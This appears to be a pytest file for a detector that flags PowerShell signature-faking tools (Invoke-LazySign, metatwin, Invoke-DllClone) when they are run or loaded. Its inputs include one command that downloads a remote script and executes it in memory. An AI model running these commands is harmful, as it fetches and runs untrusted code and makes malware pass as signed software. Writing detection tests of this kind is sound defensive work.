"""Published tools that are functions and scripts of PowerShell: run or loaded, not just mentioned."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_script

# text, indicators, action
ACTIONS = [
    # tools by name
    ("Invoke-LazySign -Target a.exe -Domain x.com", {"fake_signature_tool"}, "fake_signature"),
    ("ipmo .\\metatwin.ps1", {"fake_signature_tool"}, "fake_signature"),
    ("& C:\\x\\Invoke-DllClone.ps1 a b", {"fake_signature_tool"}, "fake_signature"),
    ("iex (iwr https://x/Invoke-LazySign.ps1)", {"fake_signature_tool"}, "fake_signature"),
]


@pytest.mark.parametrize(("text", "expected", "action"), ACTIONS)
def test_actions(text: str, expected: set[str], action: str) -> None:
    report = judged_script(text)
    assert set(ids(report)) == expected
    assert report.action == action
